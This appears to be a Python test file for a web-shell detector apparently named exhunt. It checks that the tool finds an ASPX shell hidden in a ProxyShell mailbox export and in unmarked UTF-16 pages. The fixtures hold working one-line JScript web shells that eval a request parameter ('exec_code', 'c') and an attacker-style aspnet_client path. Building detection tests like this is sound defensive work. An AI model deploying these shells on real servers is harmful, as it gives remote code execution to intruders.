"""A page inside a mailbox export: ProxyShell's intruders exported a mailbox to a `.aspx` path, so
the file is a PST whose message holds the page in single bytes amid the container's binary data
and runs of zero bytes. ASP.NET reads such a file byte by byte and runs the page; the code analysis
must read it the same way, not take the zeros for UTF-16. A page really written in UTF-16 without
its mark is still read as UTF-16."""

from __future__ import annotations

import random

from exhunt.codeanalysis import analyze_code

PAGE = b'<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>'


def _container(page: bytes) -> bytes:
    noise = random.Random(7)
    header = b"!BDN" + bytes(noise.getrandbits(8) for _ in range(60)) + b"\0" * 4000
    return (
        header
        + bytes(noise.getrandbits(8) for _ in range(20000))
        + b"\0" * 3000
        + page
        + b"\0" * 9000
        + bytes(noise.getrandbits(8) for _ in range(30000))
    )


def test_page_in_a_mailbox_export_is_read() -> None:
    report = analyze_code(_container(PAGE), "errorEE.aspx")
    chains = {c.rule_id: c.chain for c in report.capabilities}
    assert "EXH-WS-CODE-EVAL" in chains, report
    assert "request parameter 'exec_code'" in chains["EXH-WS-CODE-EVAL"]


def test_utf16_page_without_its_mark_still_read() -> None:
    page = '<%@ Page Language="JScript" %><% eval(Request.Item["c"], "unsafe"); %>'
    for codec in ("utf-16-le", "utf-16-be"):
        report = analyze_code(page.encode(codec), "u.aspx")
        assert "EXH-WS-CODE-EVAL" in {c.rule_id for c in report.capabilities}, codec


def test_the_file_hunt_reads_the_export_as_the_analysis_does() -> None:
    # A container whose first bytes are mostly zeros looks like UTF-16 by its zeros alone; the
    # file hunt's prefilter must decode it as the analysis does (byte by byte) or it never hands
    # the page over.
    from exhunt.filehunt import codehunt
    from exhunt.filehunt.locations import Location, Place

    data = b"!BDN" + b"\0" * 60 + bytes(range(256)) * 50 + b"\0" * 3000 + PAGE + b"\0" * 9000
    assert "EXH-WS-CODE-EVAL" in {c.rule_id for c in analyze_code(data, "errorEE.aspx").capabilities}
    assert codehunt.wants(Location("c:/inetpub/wwwroot/aspnet_client/errorEE.aspx", Place.ASPNET_CLIENT, True), data)
